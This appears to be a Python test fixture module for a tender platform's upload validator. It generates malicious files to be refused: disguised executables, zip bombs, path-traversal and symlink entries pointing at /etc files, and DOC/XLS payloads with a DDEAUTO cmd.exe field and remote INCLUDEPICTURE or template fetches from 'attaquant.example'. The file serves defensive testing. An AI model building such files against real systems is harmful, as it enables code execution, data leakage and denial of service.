"""Files that must be refused for their names, their types, or how they are packed, each named by what it does."""

import io
import struct
import zipfile

from tests.functions.tenders.attached.files.compound import compound, doc, record, supporting, text, xls
from tests.functions.tenders.attached.files.packages import (
    ODS_TYPE,
    ODT_TYPE,
    PNG,
    content_types,
    docx,
    docx_parts,
    lying,
    odf,
    word,
    xlsx,
    zipped,
)
from tests.functions.tenders.attached.files.pdfs import (
    objects,
    pdf,
)

File = tuple[str, bytes]


def of_names() -> dict[str, File]:
    """What the name alone tells, or what it hides."""
    plain = pdf(objects())
    names = {
        "a program": "devis.exe", "a program after a document": "devis.pdf.exe", "a program inside": "devis.exe.pdf",
        "a script inside": "devis.js.docx", "macros announced": "devis.docm", "no extension": "devis",
        "only an extension": ".pdf", "a trailing dot": "devis.pdf.", "turned writing": "devis\u202efdp.pdf",
        "a NUL": "devis.exe\0.pdf", "a line feed": "devis\n.pdf", "another alphabet": "devis.рdf",
        "wide letters": "devis.ｐｄｆ", "a web page": "devis.html", "an archive": "devis.zip",
        "a stream": "devis.pdf::$DATA",
    }  # fmt: skip
    return {f"name: {what}": (name, plain) for what, name in names.items()}


def of_types() -> dict[str, File]:
    """Content that is not what the name announces, or is nothing at all."""
    return {
        "empty": ("a.pdf", b""),
        "one byte": ("a.pdf", b"%"),
        "zeros": ("a.docx", bytes(5000)),
        "a PDF named DOCX": ("a.docx", pdf(objects())),
        "a DOCX named PDF": ("a.pdf", docx()),
        "a DOCX named XLSX": ("a.xlsx", docx()),
        "an XLSX named DOCX": ("a.docx", xlsx()),
        "a DOCX named ODT": ("a.odt", docx()),
        "an ODS named ODT": ("a.odt", odf(ODS_TYPE)),
        "a DOC named DOCX": ("a.docx", doc()),
        "a DOC named XLS": ("a.xls", doc()),
        "an XLS named DOC": ("a.doc", xls()),
        "a program named PDF": ("a.pdf", b"MZ" + bytes(500)),
        "a web page named DOC": ("a.doc", b"<html><script>alert(1)</script></html>"),
        "RTF named DOC": ("a.doc", rb"{\rtf1 {\object\objdata 0105}}"),
        "a picture named PDF": ("a.pdf", PNG),
        "an archive named DOCX": ("a.docx", zipped({"a.txt": b"bonjour", "b.exe": b"MZ"})),
        "a presentation named DOCX": (
            "a.docx",
            zipped(
                docx_parts() | {"[Content_Types].xml": content_types(("word/document.xml", "application/vnd.pptx"))}
            ),
        ),
        "an installer in a compound file": ("a.doc", compound({"Setup": b"program"})),
    }


def of_packages() -> dict[str, File]:
    """Packages that two programs would read differently, or that would fill a disk."""
    plain = docx()
    with zipfile.ZipFile(twice := io.BytesIO(), "w") as archive:
        for name, part in [*docx_parts().items()]:
            archive.writestr(name, part)
        archive.NameToInfo.clear()
        archive.writestr("WORD/document.xml", word())
    overlapping = _overlapping(docx_parts())
    encrypted = bytearray(plain)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        encrypted[plain.index(signature) + at] |= 1
    return {
        f"package: {what}": ("a.docx", content)
        for what, content in {
            "a bomb": docx(more={"word/media/a.xml": bytes(60_000_000)}),
            "a bomb of many parts": zipped(
                docx_parts() | {f"word/media/{n}.bmp": bytes(19_000_000) for n in range(11)}
            ),
            "a bomb that lies": lying(
                docx(more={"word/big.xml": b"<a>" + b"a" * 5_000_000 + b"</a>"}), b"word/big.xml", 100
            ),
            "too many parts": zipped(docx_parts() | {f"word/media/{n}.png": PNG for n in range(5_001)}),
            "a name twice": twice.getvalue(),
            "a way out": zipped(docx_parts() | {"../../etc/cron.d/a.xml": b"<a/>"}),
            "a way from the root": zipped(docx_parts() | {"/etc/a.xml": b"<a/>"}),
            "a way out of Windows": zipped(docx_parts() | {"word\\..\\..\\a.xml": b"<a/>"}),
            "a drive": zipped(docx_parts() | {"c:/a.xml": b"<a/>"}),
            "something before": b"#!/bin/sh\n" + plain,
            "something after": plain + b"bonjour",
            "a comment": plain[:-2] + b"\x07\0bonjour",
            "something between": _with_gap(docx_parts()),
            "something in a part, after its end": _with_more_in_a_part(docx_parts()),
            "parts over one another": overlapping,
            "a password": bytes(encrypted),
            "another name in its header": plain.replace(b"word/document.xml", b"word/dokument.xml", 1),
            "cut in the middle": plain[: len(plain) // 2],
            "cut before its end": plain[:-5],
            "a spoilt part": plain[:60] + bytes([plain[60] ^ 0xFF]) + plain[61:],
            "a PDF in the first part": zipped({"a.xml": b"%PDF-1.7 "} | docx_parts(), stored=("a.xml",)),
            "two kinds at once": zipped({"mimetype": ODT_TYPE.encode()} | docx_parts(), stored=("mimetype",)),
            "a link of Unix": _linked(docx_parts()),
        }.items()
    }


def of_compound() -> dict[str, File]:
    """DOC and XLS files that act, hold or fetch something."""
    documents = {
        "macros": doc(Macros={"VBA": {"dir": b"x", "_VBA_PROJECT": b"x"}, "PROJECT": b"x"}),
        "macros of another name": doc(Autre={"_VBA_PROJECT": b"x"}),
        "an object": doc(ObjectPool={"_1234": {"\x01Ole10Native": b"MZ", "\x03ObjInfo": b"x"}}),
        "any object": doc(ObjectPool={"_1234": {"CONTENTS": b"x"}}),
        "an equation": doc(Equation={"Equation Native": b"x"}),
        "a package": doc(Package=b"PK\x03\x04"),
        "a field that runs": doc(b'\x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14\x15'),
        "a field that runs, in 16 bits": doc("\x13 DDE cmd a \x14\x15".encode("utf-16-le")),
        "a field that fetches": doc(b'\x13 INCLUDEPICTURE "https://attaquant.example/a" \x14\x15'),
        "a picture that a field tells": doc(
            b'\x13 INCLUDEPICTURE \x13 QUOTE "https://attaquant.example/" \x14\x15 \x14\x15'
        ),
        "a field that another names": doc(b'\x13 \x13 QUOTE "DDEAUTO" \x14\x15 cmd a \x14\x15'),
        "a field behind blanks": doc(b"\x13" + b" " * 3000 + b"DDE cmd a \x14\x15"),
        "a template elsewhere": doc(template="https://attaquant.example/a.dot"),
        "a template on a share": doc(template=r"\\attaquant.example\a.dot"),
        "a password": doc(flags=0x0300),
        "a password of today": compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}),
        "another text": compound(text() | {"WordDocument": b"bonjour"}),
        "no table": compound({name: part for name, part in text().items() if name != "1Table"}),
        "cut in the middle": doc()[:3000],
        "only its start": doc()[:512],
        "an archive after": doc() + zipped({"a.exe": b"MZ"}),
        "a sheet too": doc(Workbook=b"x"),
    }
    sheets = {
        "macros": xls(_VBA_PROJECT_CUR={"VBA": {"dir": b"x"}}),
        "a project of macros": xls(record(0xD3)),
        "a sheet of macros": xls(sheet_kind=1),
        "an unlisted sheet of macros": xls(stream_kind=0x40),
        "a module of macros": xls(sheet_kind=6),
        "an object": xls(MBD0001={"CONTENTS": b"x"}),
        "a control": xls(Ctls=b"x"),
        "a password": xls(record(0x2F, bytes(6))),
        "a program asked": xls(supporting("cmd\x03/c calc")),
        "a workbook elsewhere": xls(supporting("\x01\x05https://attaquant.example/a.xls")),
        "a workbook on a share": xls(supporting("\x01@attaquant.example\x03a.xls")),
        "a name that asks": xls(record(0x23, struct.pack("<HHH", 0x10, 0, 0))),
        "data elsewhere": xls(record(0x876, bytes(20))),
        "no workbook": xls()[:0] + compound({"Workbook": b"bonjour"}),
        "a record that never ends": compound({"Workbook": record(0x809, bytes(16)) + struct.pack("<HH", 0x55, 0xFFFF)}),
    }
    return {f"DOC: {what}": ("a.doc", content) for what, content in documents.items()} | {
        f"XLS: {what}": ("a.xls", content) for what, content in sheets.items()
    }


def _with_gap(parts: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for rank, (name, part) in enumerate(parts.items()):
            archive.writestr(name, part)
            if rank == 1:
                archive.fp.write(b"MZ" + bytes(30))  # type: ignore[union-attr] # it is open
                archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
    return written.getvalue()


def _with_more_in_a_part(parts: dict[str, bytes]) -> bytes:
    """A package one part of which holds bytes that inflating it does not reach."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        last = archive.filelist[-1]
        archive.fp.write(b"MZ" + bytes(30))  # type: ignore[union-attr] # it is open
        archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
        last.compress_size += 32
    spoilt = bytearray(written.getvalue())
    struct.pack_into("<L", spoilt, last.header_offset + 18, last.compress_size)
    return bytes(spoilt)


def _overlapping(parts: dict[str, bytes]) -> bytes:
    """A package two of whose entries share the same bytes, as bombs do that need no nesting."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        first = archive.getinfo("word/document.xml")
        other = zipfile.ZipInfo("word/document.xmm")
        for attribute in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
            setattr(other, attribute, getattr(first, attribute))
        archive.filelist.append(other)
    return written.getvalue()


def _linked(parts: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
        link = zipfile.ZipInfo("word/media/a.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()
